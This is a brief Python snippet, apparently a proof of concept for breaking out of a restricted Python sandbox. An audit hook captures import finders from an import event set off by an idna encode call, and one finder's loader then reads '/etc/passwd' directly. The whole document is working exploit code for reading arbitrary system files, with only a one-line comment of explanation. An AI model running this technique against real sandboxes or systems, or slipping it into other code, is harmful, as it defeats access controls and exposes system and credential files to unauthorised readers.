# an audit hook of its own receives sys.meta_path with every import event; a path finder's loader reads any file
import sys

finders = []
sys.addaudithook(lambda event, args: finders.extend(args[3] or ()) if event == "import" else None)
"x".encode("idna")  # the codec is imported on first use: an import event
spec = next(s for s in (finder.find_spec("json", None) for finder in finders) if s is not None)
print(spec.loader.get_data("/etc/passwd"))
